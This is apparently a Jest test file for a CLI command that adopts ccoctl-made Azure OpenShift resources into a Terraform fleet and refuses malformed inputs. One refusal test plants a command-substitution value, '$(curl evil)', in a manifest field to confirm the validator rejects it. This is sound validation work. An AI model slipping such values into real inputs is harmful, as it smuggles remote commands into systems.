/**
 * `wisynth adopt --ccoctl`: an OpenShift cluster that `ccoctl azure create-all` set up becomes an
 * openshift-hive entry whose synth imports all ccoctl made (groups, issuer storage, identities, FICs,
 * custom roles, role assignments) and creates nothing beside it; the credentials Secrets synth renders
 * are ccoctl's own, byte for byte in their values. Fixtures: ccoctl's renderings and names
 * (test/fixtures/SOURCES.md), the CredentialsRequests of the example.
 */
import { generateKeyPairSync } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import YAML from 'yaml';
import { ROOT, readTree, runCli } from './support';

/** Parsed JSON, read field by field. */
type Json = any;

const FIXTURES = path.join(ROOT, 'test', 'fixtures', 'adopt', 'ccoctl');
const AZ = path.join(FIXTURES, 'az');
const readJson = (file: string): Json => JSON.parse(fs.readFileSync(path.join(AZ, file), 'utf8'));
const ISSUER = 'https://ocpadopt.blob.core.windows.net/ocpadopt';
const SUBSCRIPTION = '9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b';
// the one request synth skips (feature-gated) though ccoctl processed it
const GATED = 'ocpadopt-openshift-cluster-api-capz-manager-bootstrap-credentials';
const canonical = (armId: string) => armId.replace(/\/resourcegroups\//i, '/resourceGroups/');

let work: string;
beforeAll(() => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'wisynth-adopt-ccoctl-'));
});
afterAll(() => {
  fs.rmSync(work, { recursive: true, force: true });
});

/** A folder as ccoctl leaves it (its manifests, and the key pair create-all generates), with the CredentialsRequests it read. */
function ccoctlFolder(name: string): string {
  const dir = path.join(work, name);
  fs.cpSync(path.join(FIXTURES, 'output'), path.join(dir, 'ccoctl-output'), { recursive: true });
  fs.cpSync(path.join(ROOT, 'examples', 'openshift', 'credentialsrequests'), path.join(dir, 'credentials-requests'), { recursive: true });
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  fs.mkdirSync(path.join(dir, 'ccoctl-output', 'tls'));
  fs.writeFileSync(path.join(dir, 'ccoctl-output', 'tls', 'bound-service-account-signing-key.key'), privateKey.export({ type: 'pkcs1', format: 'pem' }), { mode: 0o600 });
  fs.writeFileSync(path.join(dir, 'ccoctl-output', 'serviceaccount-signer.public'), publicKey.export({ type: 'spki', format: 'pem' }));
  return dir;
}

const adoptArgs = () => [
  '--identities', path.join(AZ, 'identities.json'),
  ...fs.readdirSync(AZ).filter((f) => f.startsWith('fics-')).sort().flatMap((f) => ['--federated-credentials', path.join(AZ, f)]),
  '--role-assignments', path.join(AZ, 'role-assignments.json'),
  '--ccoctl', 'ccoctl-output',
  '--credentials-requests', 'credentials-requests',
  '--name', 'ocp',
];

/** adopt, then what the comment asks for (the two secret files synth reads), then synth. */
async function adoptAndSynth(name: string) {
  const dir = ccoctlFolder(name);
  const adopt = await runCli(['adopt', ...adoptArgs()], dir);
  fs.writeFileSync(path.join(dir, 'pull-secret.json'), JSON.stringify({ auths: { 'quay.io': { auth: 'dXNlcjpwYXNz' } } }));
  fs.writeFileSync(path.join(dir, 'osServicePrincipal.json'), JSON.stringify({ subscriptionId: SUBSCRIPTION, clientId: 'c', clientSecret: 's', tenantId: 't' }));
  const synth = await runCli(['synth', '-c', 'fleet.yaml', '-o', 'out'], dir);
  const tf = JSON.parse(fs.readFileSync(path.join(dir, 'out', 'terraform', 'stacks', 'ocp', 'cdk.tf.json'), 'utf8')) as Json;
  return { dir, adopt, synth, tf, fleet: fs.readFileSync(path.join(dir, 'fleet.yaml'), 'utf8') };
}

describe('a ccoctl-made OpenShift cluster', () => {
  let run: Awaited<ReturnType<typeof adoptAndSynth>>;
  let imports: Map<string, string>;
  beforeAll(async () => {
    run = await adoptAndSynth('adopted');
    imports = new Map((run.tf.import as Json[]).map((i) => [i.id, i.to]));
  });

  test('the written fleet synthesizes and check passes', async () => {
    expect(run.adopt.code).toBe(0);
    expect(run.synth.code).toBe(0);
    expect((await runCli(['check', 'out'], run.dir)).code).toBe(0);
  });

  test('every resource of the stack is imported: nothing is created beside what ccoctl made', () => {
    const resources = Object.entries<Json>(run.tf.resource).flatMap(([type, blocks]) => Object.keys(blocks).map((id) => `${type}.${id}`)).sort();
    expect([...imports.values()].sort()).toEqual(resources);
    // 7 identities, their 12 FICs, 7 custom roles and 8 assignments, 2 groups, the account, its container and 2 documents
    expect(resources).toHaveLength(40);
  });

  test('identities and FICs are imported by the ids az printed, FICs with ccoctl\'s issuer and audience', () => {
    const identities = (readJson('identities.json') as Json[]).filter((i) => i.name !== GATED);
    for (const identity of identities) expect(imports.get(canonical(identity.id))).toBe(`azurerm_user_assigned_identity.identity_${identity.name}`);
    const fics = fs.readdirSync(AZ).filter((f) => f.startsWith('fics-') && !f.includes(GATED)).flatMap((f) => readJson(f) as Json[]);
    expect(fics).toHaveLength(12);
    for (const fic of fics) {
      const [, id] = imports.get(canonical(fic.id))!.split('.');
      expect(run.tf.resource.azurerm_federated_identity_credential[id]).toMatchObject({ name: fic.name, issuer: ISSUER, subject: fic.subject, audience: ['openshift'] });
    }
  });

  test('role assignments by their random ids, custom roles by their definition id and scope', () => {
    const roles = (readJson('role-assignments.json') as Json[]).filter((r) => r.roleDefinitionName !== GATED);
    for (const r of roles) {
      const [, id] = imports.get(r.id)!.split('.');
      expect(run.tf.resource.azurerm_role_assignment[id].scope).toBe(r.scope);
      expect(imports.get(`${r.roleDefinitionId}|/subscriptions/${SUBSCRIPTION}`)).toBe(`azurerm_role_definition.role_definition_${r.roleDefinitionName}`);
    }
  });

  test('the groups, the account and container by ARM id, the documents by their URL under the issuer', () => {
    const group = `/subscriptions/${SUBSCRIPTION}/resourceGroups`;
    expect(imports.get(`${group}/ocpadopt-oidc`)).toBe('azurerm_resource_group.rg_ocpadopt-oidc');
    expect(imports.get(`${group}/ocpadopt`)).toBe('azurerm_resource_group.rg_ocpadopt');
    expect(imports.get(`${group}/ocpadopt-oidc/providers/Microsoft.Storage/storageAccounts/ocpadopt`)).toBe('azurerm_storage_account.oidc_ocpadopt_account');
    expect(imports.get(`${group}/ocpadopt-oidc/providers/Microsoft.Storage/storageAccounts/ocpadopt/blobServices/default/containers/ocpadopt`)).toBe('azurerm_storage_container.oidc_ocpadopt_container');
    expect(imports.get(`${ISSUER}/.well-known/openid-configuration`)).toBe('azurerm_storage_blob.oidc_ocpadopt_discovery');
    expect(imports.get(`${ISSUER}/openid/v1/jwks`)).toBe('azurerm_storage_blob.oidc_ocpadopt_jwks');
  });

  test('the credentials Secrets synth writes for the installer hold what ccoctl wrote', () => {
    const hub = YAML.parse(fs.readFileSync(path.join(run.dir, 'out', 'kubernetes', 'ocpadopt', 'secret_ocpadopt_ocpadopt-manifests.yaml'), 'utf8'));
    const manifests = path.join(FIXTURES, 'output', 'manifests');
    const theirs = fs.readdirSync(manifests).filter((f) => f.endsWith('-credentials.yaml') && !f.startsWith('openshift-cluster-api-'));
    expect(theirs).toHaveLength(7);
    for (const file of theirs) {
      const ccoctl = YAML.parse(fs.readFileSync(path.join(manifests, file), 'utf8'));
      expect(YAML.parse(hub.stringData[file])).toEqual(ccoctl);
    }
    const authentication = 'cluster-authentication-02-config.yaml';
    expect(YAML.parse(hub.stringData[authentication])).toEqual(YAML.parse(fs.readFileSync(path.join(manifests, authentication), 'utf8')));
  });

  test('the identity of a request synth skips is reported with its FICs and roles, not adopted', () => {
    expect(run.adopt.stderr).toContain(`identity ${GATED} (Secret openshift-cluster-api/capz-manager-bootstrap-credentials) is for a CredentialsRequest synth does not process`);
    expect(run.fleet).not.toContain(`name: ${GATED}`);
    expect(run.adopt.stdout).toContain('7 identities, 12 FIC(s), 8 role assignment(s) adopted, 1 cluster(s)');
  });

  test('guesses and what to replace are said above the entry', () => {
    expect(run.fleet).toContain("# ccoctl's cluster ocpadopt (ccoctl-output)");
    expect(run.fleet).toContain('# REPLACE: baseDomain and releaseImage');
    expect(YAML.parse(run.fleet).resourceGroups).toEqual([{ name: 'rg-contoso-dns', existing: true }]);
  });

  test('a second adopt and synth of the same folder are byte-identical', async () => {
    const adopt = await runCli(['adopt', ...adoptArgs(), '-o', 'again.yaml'], run.dir);
    expect(adopt.code).toBe(0);
    expect(fs.readFileSync(path.join(run.dir, 'again.yaml'), 'utf8')).toBe(run.fleet);
    expect((await runCli(['synth', '-c', 'again.yaml', '-o', 'out-again'], run.dir)).code).toBe(0);
    const tree = (out: string) => new Map([...readTree(path.join(run.dir, out))].filter(([f]) => f !== 'summary.json'));
    expect(tree('out-again')).toEqual(tree('out'));
  });
});

test('an assignment of a ccoctl identity that ccoctl does not make is reported, not adopted, and the fleet still synthesizes', async () => {
  const dir = ccoctlFolder('extra-role');
  const roles = readJson('role-assignments.json') as Json[];
  const scope = `/subscriptions/${SUBSCRIPTION}/resourceGroups/rg-shared-images`;
  const extra = { ...roles[0], scope, id: `${scope}/providers/Microsoft.Authorization/roleAssignments/3d4e5f6a-7b8c-4d9e-8f0a-1b2c3d4e5f6a`, roleDefinitionName: 'Reader' };
  fs.writeFileSync(path.join(dir, 'roles.json'), JSON.stringify([...roles, extra]));
  const args = adoptArgs().map((a) => (a.endsWith('role-assignments.json') ? path.join(dir, 'roles.json') : a));
  const adopt = await runCli(['adopt', ...args], dir);
  expect(adopt.code).toBe(0);
  expect(adopt.stderr).toContain(`role assignment "${extra.id}" ("Reader" of ccoctl's identity ${roles[0].roleDefinitionName}) is not one ccoctl makes for its CredentialsRequest`);
  // listed in the closing comment, and in no field
  expect(JSON.stringify(YAML.parse(fs.readFileSync(path.join(dir, 'fleet.yaml'), 'utf8')))).not.toContain(extra.id);
  fs.writeFileSync(path.join(dir, 'pull-secret.json'), JSON.stringify({ auths: {} }));
  fs.writeFileSync(path.join(dir, 'osServicePrincipal.json'), JSON.stringify({ subscriptionId: SUBSCRIPTION, clientId: 'c', clientSecret: 's', tenantId: 't' }));
  expect((await runCli(['synth', '-c', 'fleet.yaml', '-o', 'out'], dir)).code).toBe(0);
});

describe('refusals', () => {
  test('a folder without the key pair, or --ccoctl without its --credentials-requests, says what is missing', async () => {
    const dir = ccoctlFolder('no-keys');
    fs.rmSync(path.join(dir, 'ccoctl-output', 'serviceaccount-signer.public'));
    const missing = await runCli(['adopt', ...adoptArgs()], dir);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('ccoctl-output: holds no serviceaccount-signer.public');
    const unpaired = await runCli(['adopt', ...adoptArgs().filter((a) => a !== '--credentials-requests' && a !== 'credentials-requests')], dir);
    expect(unpaired.code).toBe(2);
    expect(unpaired.stderr).toContain('1 --ccoctl folder(s) but 0 --credentials-requests folder(s)');
    expect(fs.existsSync(path.join(dir, 'fleet.yaml'))).toBe(false);
  });

  test('a manifest that is not ccoctl\'s is refused with file, field and fix', async () => {
    const dir = ccoctlFolder('bad-manifest');
    const file = path.join(dir, 'ccoctl-output', 'manifests', 'openshift-ingress-operator-cloud-credentials-credentials.yaml');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/azure_client_id: .*/, 'azure_client_id: "$(curl evil)"'));
    const run = await runCli(['adopt', ...adoptArgs()], dir);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('openshift-ingress-operator-cloud-credentials-credentials.yaml stringData.azure_client_id: is not a GUID');
    expect(run.stderr).toContain('fix: pass the folder `ccoctl azure create-all --output-dir` wrote');
  });

  describe('openshiftHive.adopt written by hand', () => {
    let dir: string;
    let fleet: Json;
    beforeAll(async () => {
      const done = await adoptAndSynth('hand');
      dir = done.dir;
      fleet = YAML.parse(done.fleet);
    });
    const synth = async (edit: (adopt: Json) => void) => {
      const copy = structuredClone(fleet);
      edit(copy.clusters[0].openshiftHive.adopt);
      fs.writeFileSync(path.join(dir, 'edited.yaml'), YAML.stringify(copy));
      return runCli(['synth', '-c', 'edited.yaml', '-o', 'edited-out'], dir);
    };

    test('an identity no CredentialsRequest makes', async () => {
      const run = await synth((a) => (a.identities[0].name = GATED));
      expect(run.code).toBe(1);
      expect(run.stderr).toContain(`openshiftHive.adopt.identities[0].name: no CredentialsRequest of the cluster makes identity "${GATED.slice(0, 50)}`);
    });

    test('a role assignment at a scope its request does not assign', async () => {
      const run = await synth((a) => {
        const r = a.identities[0].roleAssignments[0];
        r.scope = `/subscriptions/${SUBSCRIPTION}/resourceGroups/elsewhere`;
        r.id = `${r.scope}/providers/Microsoft.Authorization/roleAssignments/0b9c60a0-b32b-52e1-9a24-7d7297e5d93e`;
      });
      expect(run.code).toBe(1);
      expect(run.stderr).toContain(`gets no role assignment ${a0Role(fleet)} at /subscriptions/${SUBSCRIPTION}/resourcegroups/elsewhere`);
    });

    test('a custom role id that is no role definition', async () => {
      const run = await synth((a) => (a.customRoles[0].id = `/subscriptions/${SUBSCRIPTION}/resourceGroups/x`));
      expect(run.code).toBe(1);
      expect(run.stderr).toContain('openshiftHive.adopt.customRoles[0].id:');
      expect(run.stderr).toContain('is no id of a role definition');
    });
  });
});

const a0Role = (fleet: Json): string => String(fleet.clusters[0].openshiftHive.adopt.identities[0].roleAssignments[0].role).toLowerCase();
